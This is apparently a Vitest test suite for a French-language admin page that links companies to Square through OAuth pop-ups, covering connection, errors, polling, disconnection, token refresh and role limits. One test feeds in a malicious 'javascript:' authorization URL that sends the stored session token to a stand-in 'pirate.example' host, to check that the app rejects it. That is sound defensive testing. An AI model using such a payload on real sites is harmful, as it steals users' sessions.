import { afterEach, describe, expect, it, vi } from 'vitest';
import { screen, within, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { http, HttpResponse } from 'msw';
import { Route, Routes } from 'react-router-dom';
import OAuthPage from '../../src/custom-pages/oauth/OAuthPage';
import SquareAuthorizePage from '../../src/custom-pages/oauth/SquareAuthorizePage';
import { getDb } from '../../src/demo/db/store';
import { server } from '../../src/demo/node';
import { oauthMethods } from '../../src/dataProvider/methods/oauth';
import { tokenStore } from '../../src/dataProvider/tokenStore';
import { renderInAdmin, signIn } from './render';

const enterprise = (id: number) => {
  const found = getDb().enterprises.find((e) => e.id === id);
  if (!found) throw new Error(`enterprise ${id} missing from the seed`);
  return found;
};

async function openPage(login = 'admin', url = '/oauth') {
  await signIn(login);
  renderInAdmin(<OAuthPage />, { url, path: '/oauth' });
  await screen.findByRole('heading', { name: 'Connexion Square (OAuth)' });
}

const companies = () => screen.getByRole('navigation', { name: 'Entreprises' });
const statusCard = () => screen.getByRole('tabpanel');
const count = (label: string) => within(screen.getByRole('group', { name: 'Résumé des connexions' })).getByText(label).previousElementSibling?.textContent;
const dialogClosed = () => waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());

/** A pop-up the test closes by hand, as the user (or the consent page) would. */
function fakePopup() {
  const popup = { closed: false, location: { href: '' }, close: vi.fn(() => (popup.closed = true)) };
  const open = vi.spyOn(window, 'open').mockReturnValue(popup as unknown as Window);
  return { popup, open };
}

afterEach(() => {
  vi.restoreAllMocks();
});

describe('/oauth payment-provider connection', () => {
  it('shows the environment, the counts, the companies and the selected status card', async () => {
    await openPage();
    expect(screen.getByLabelText('Environnement : Sandbox')).toBeInTheDocument();
    expect(count('Entreprises')).toBe('3');
    expect(count('Connectées')).toBe('1');
    expect(count('En attente')).toBe('0');
    expect(count('Déconnectées')).toBe('2');
    for (const name of ['TransAtlantique Colis', 'Sahel Express', 'Kankan Fret']) {
      expect(within(companies()).getByText(name)).toBeInTheDocument();
    }
    expect(await within(statusCard()).findByText('TransAtlantique Colis Inc.')).toBeInTheDocument();
    expect(within(statusCard()).getByText('MLR-DEMO-0001')).toBeInTheDocument();
    expect(within(statusCard()).getByRole('button', { name: 'Déconnecter' })).toBeInTheDocument();
    expect(within(statusCard()).queryByRole('button', { name: 'Connecter à Square' })).not.toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Nettoyer les sessions' })).toBeInTheDocument();
  });

  it('connects through a 600×800 pop-up and re-reads the status 2 s after it closes', async () => {
    const { popup, open } = fakePopup();
    await openPage();
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(open).toHaveBeenCalledWith('', 'square-oauth', expect.stringContaining('width=600,height=800'));
    await waitFor(() => expect(popup.location.href).toMatch(/#\/demo\/square-authorize\?state=[0-9a-f]{32}$/));
    expect(enterprise(2).oauth.status).toBe('pending');
    const state = new URL(popup.location.href.replace('#/demo/square-authorize', 'demo')).searchParams.get('state') ?? '';
    await oauthMethods.answerDemoAuthorization(state, true);
    popup.closed = true;
    expect(await within(statusCard()).findByText('Sahel Express (Sandbox)', {}, { timeout: 5000 })).toBeInTheDocument();
    expect(within(statusCard()).getByRole('button', { name: 'Déconnecter' })).toBeInTheDocument();
    await waitFor(() => expect(count('Connectées')).toBe('2'));
  });

  it('says so when the browser blocks the pop-up', async () => {
    vi.spyOn(window, 'open').mockReturnValue(null);
    await openPage();
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(await screen.findByText("Impossible d'ouvrir la fenêtre OAuth. Vérifiez les popups.")).toBeInTheDocument();
    expect(enterprise(2).oauth.status).toBe('disconnected');
  });

  it('shows the server message when the initiation fails, and closes the pop-up', async () => {
    const { popup } = fakePopup();
    server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ detail: 'Square ne répond pas' }, { status: 502 })));
    await openPage();
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(await screen.findByText('Erreur OAuth: Square ne répond pas')).toBeInTheDocument();
    expect(popup.close).toHaveBeenCalled();
  });

  it('refuses an authorisation URL that is not Square in https: French message, the pop-up closes without going anywhere', async () => {
    const { popup } = fakePopup();
    server.use(
      http.post('*/payments/oauth/initiate/:id/', () =>
        HttpResponse.json({ success: true, authorization_url: 'javascript:opener.fetch("https://pirate.example/?"+localStorage.getItem("colis.session"))', message: 'ok' }),
      ),
    );
    await openPage();
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(await screen.findByText("Adresse d'autorisation refusée : le serveur a envoyé une adresse qui ne mène pas à Square en https. Aucune page n'a été ouverte.")).toBeInTheDocument();
    expect(popup.close).toHaveBeenCalled();
    expect(popup.location.href).toBe('');
  });

  it("a real Square consent page gets no handle on the app's window", async () => {
    const { popup } = fakePopup();
    const square = 'https://connect.squareupsandbox.com/oauth2/authorize?client_id=sandbox-sq0idb-demo&state=abc';
    server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ success: true, authorization_url: square })));
    await openPage();
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    await waitFor(() => expect(popup.location.href).toBe(square));
    expect((popup as unknown as { opener: unknown }).opener).toBeNull();
  });

  it("falls back to 'Erreur lors de l'initiation OAuth' when the server declines without a message", async () => {
    const { popup } = fakePopup();
    server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ success: false })));
    await openPage();
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
    expect(await screen.findByText("Erreur lors de l'initiation OAuth")).toBeInTheDocument();
    expect(popup.close).toHaveBeenCalled();
  });

  it('polls the selected status every 30 s while the page is open', async () => {
    vi.useFakeTimers({ shouldAdvanceTime: true });
    try {
      const statusCalls: string[] = [];
      const listener = ({ request }: { request: Request }) => {
        if (request.url.includes('/payments/oauth/status/')) statusCalls.push(request.url);
      };
      server.events.on('request:start', listener);
      await openPage();
      await waitFor(() => expect(statusCalls).toHaveLength(1));
      await vi.advanceTimersByTimeAsync(29_000);
      expect(statusCalls).toHaveLength(1);
      await vi.advanceTimersByTimeAsync(1_500);
      await waitFor(() => expect(statusCalls).toHaveLength(2));
      server.events.removeListener('request:start', listener);
    } finally {
      vi.useRealTimers();
    }
  });

  it('needs a signed-in user to connect', async () => {
    fakePopup();
    await openPage();
    await userEvent.click(within(companies()).getByText('Sahel Express'));
    const connect = await within(statusCard()).findByRole('button', { name: 'Connecter à Square' });
    tokenStore.clear();
    await userEvent.click(connect);
    expect(await screen.findByText('Vous devez être connecté pour configurer OAuth')).toBeInTheDocument();
  });

  it('disconnects after a confirmation', async () => {
    await openPage();
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Déconnecter' }));
    const dialog = await screen.findByRole('dialog');
    expect(within(dialog).getByText('Déconnecter Square')).toBeInTheDocument();
    await userEvent.click(within(dialog).getByRole('button', { name: 'Annuler' }));
    await dialogClosed();
    expect(enterprise(1).oauth.status).toBe('connected');
    await userEvent.click(within(statusCard()).getByRole('button', { name: 'Déconnecter' }));
    await userEvent.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'Déconnecter' }));
    expect(await screen.findByText('TransAtlantique Colis est déconnectée de Square')).toBeInTheDocument();
    await dialogClosed();
    expect(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' })).toBeInTheDocument();
    expect(enterprise(1).oauth.status).toBe('disconnected');
  });

  it('refreshes an expired token', async () => {
    await openPage();
    await userEvent.click(within(companies()).getByText('Kankan Fret'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' }));
    expect(await screen.findByText('Jeton Square rafraîchi avec succès')).toBeInTheDocument();
    await waitFor(() => expect(within(statusCard()).queryByRole('button', { name: 'Rafraîchir le jeton' })).not.toBeInTheDocument());
    expect(enterprise(3).oauth.status).toBe('connected');
  });

  it('shows the refresh and disconnect errors with their prefixes', async () => {
    server.use(
      http.post('*/payments/oauth/refresh/:id/', () => HttpResponse.json({ success: false, message: 'Jeton révoqué' }, { status: 400 })),
      http.post('*/payments/oauth/disconnect/:id/', () => HttpResponse.json({ detail: 'Indisponible' }, { status: 503 })),
    );
    await openPage();
    await userEvent.click(within(companies()).getByText('Kankan Fret'));
    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' }));
    expect(await screen.findByText('Erreur rafraîchissement: Jeton révoqué')).toBeInTheDocument();
    await userEvent.click(within(statusCard()).getByRole('button', { name: 'Déconnecter' }));
    await userEvent.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'Déconnecter' }));
    expect(await screen.findByText('Erreur déconnexion: Indisponible')).toBeInTheDocument();
  });

  it('lets an admin clean up pending sessions after a confirmation', async () => {
    enterprise(2).oauth = { ...enterprise(2).oauth, status: 'pending', pending_state: 'abandonne' };
    await openPage();
    expect(count('En attente')).toBe('1');
    await userEvent.click(screen.getByRole('button', { name: 'Nettoyer les sessions' }));
    const dialog = await screen.findByRole('dialog');
    expect(within(dialog).getByText('Nettoyer les sessions OAuth')).toBeInTheDocument();
    await userEvent.click(within(dialog).getByRole('button', { name: 'Nettoyer' }));
    expect(await screen.findByText('1 session(s) OAuth en attente nettoyée(s)')).toBeInTheDocument();
    await dialogClosed();
    await waitFor(() => expect(count('En attente')).toBe('0'));
    expect(enterprise(2).oauth.status).toBe('disconnected');
  });

  it('shows the cleanup error', async () => {
    server.use(http.post('*/payments/oauth/admin/cleanup-sessions/', () => HttpResponse.json({ detail: 'Verrou actif' }, { status: 409 })));
    await openPage();
    await userEvent.click(screen.getByRole('button', { name: 'Nettoyer les sessions' }));
    await userEvent.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'Nettoyer' }));
    expect(await screen.findByText('Erreur nettoyage: Verrou actif')).toBeInTheDocument();
  });

  it('keeps the cleanup for admins: an accountant sees only their company', async () => {
    await openPage('comptable');
    expect(count('Entreprises')).toBe('1');
    expect(within(companies()).getByText('TransAtlantique Colis')).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Nettoyer les sessions' })).not.toBeInTheDocument();
  });

  it("says 'Aucune entreprise configurée' when the account has none", async () => {
    await openPage('client');
    expect(screen.getByText('Aucune entreprise configurée')).toBeInTheDocument();
  });

  it('shows the load-failure page', async () => {
    server.use(http.get('*/payments/oauth/admin/enterprises-status/', () => HttpResponse.json({ detail: 'Panne' }, { status: 403 })));
    await signIn('admin');
    renderInAdmin(<OAuthPage />, { url: '/oauth', path: '/oauth' });
    expect(await screen.findByText('Erreur de chargement')).toBeInTheDocument();
    expect(screen.getByText('Impossible de charger les données OAuth')).toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'Réessayer' })).toBeInTheDocument();
  });

  it('toasts a status error', async () => {
    server.use(http.get('*/payments/oauth/status/:id/', () => HttpResponse.json({ detail: 'Statut indisponible' }, { status: 400 })));
    await openPage();
    expect(await screen.findByText('Erreur statut OAuth: Statut indisponible')).toBeInTheDocument();
  });

  it('re-reads the status 2 s after a return with code and state, with a success toast', async () => {
    const statusCalls: number[] = [];
    const listener = ({ request }: { request: Request }) => {
      if (request.url.includes('/payments/oauth/status/')) statusCalls.push(Date.now());
    };
    server.events.on('request:start', listener);
    const start = Date.now();
    await openPage('admin', '/oauth?code=demo-abc&state=xyz');
    expect(await screen.findByText('Autorisation Square reçue : vérification de la connexion...')).toBeInTheDocument();
    await waitFor(() => expect(statusCalls.length).toBeGreaterThanOrEqual(2), { timeout: 5000 });
    expect(statusCalls[1] - start).toBeGreaterThanOrEqual(2000);
    server.events.removeListener('request:start', listener);
  });

  it('has the Aide tab with its sections and the provider documentation', async () => {
    await openPage();
    await userEvent.click(screen.getByRole('tab', { name: 'Aide' }));
    for (const title of ["Qu'est-ce que la connexion Square ?", 'Configuration', 'Dépannage', 'Sécurité']) {
      expect(within(statusCard()).getByRole('button', { name: title })).toBeInTheDocument();
    }
    await userEvent.click(within(statusCard()).getByRole('button', { name: 'Dépannage' }));
    expect(await within(statusCard()).findByText(/autorisez les pop-ups pour ce site/)).toBeVisible();
    expect(screen.getByRole('link', { name: /Documentation Square OAuth/ })).toHaveAttribute('href', 'https://developer.squareup.com/docs/oauth-api/overview');
  });
});

describe('demo consent page (#/demo/square-authorize)', () => {
  function renderFlow(url: string) {
    renderInAdmin(
      <Routes>
        <Route path="/demo/square-authorize" element={<SquareAuthorizePage />} />
        <Route path="/oauth" element={<OAuthPage />} />
      </Routes>,
      { url },
    );
  }

  it('authorises, marks the company connected and returns to /oauth with code and state', async () => {
    await signIn('admin');
    const { authorization_url } = await oauthMethods.initiateOAuth(2);
    renderFlow(`/demo/square-authorize?state=${authorization_url?.split('state=')[1]}`);
    expect(await screen.findByText('Sahel Express')).toBeInTheDocument();
    expect(screen.getByText('Encaisser des paiements par carte')).toBeInTheDocument();
    await userEvent.click(screen.getByRole('button', { name: 'Autoriser' }));
    expect(await screen.findByText('Autorisation Square reçue : vérification de la connexion...')).toBeInTheDocument();
    expect(enterprise(2).oauth).toMatchObject({ status: 'connected', merchant_name: 'Sahel Express (Sandbox)', pending_state: null });
  });

  it('records a refusal', async () => {
    await signIn('admin');
    const { authorization_url } = await oauthMethods.initiateOAuth(2);
    renderFlow(`/demo/square-authorize?state=${authorization_url?.split('state=')[1]}`);
    await userEvent.click(await screen.findByRole('button', { name: 'Refuser' }));
    await waitFor(() => expect(enterprise(2).oauth.status).toBe('error'));
  });

  it('rejects an unknown state', async () => {
    await signIn('admin');
    renderFlow('/demo/square-authorize?state=inconnu');
    expect(await screen.findByText("Demande d'autorisation invalide ou expirée.")).toBeInTheDocument();
  });
});
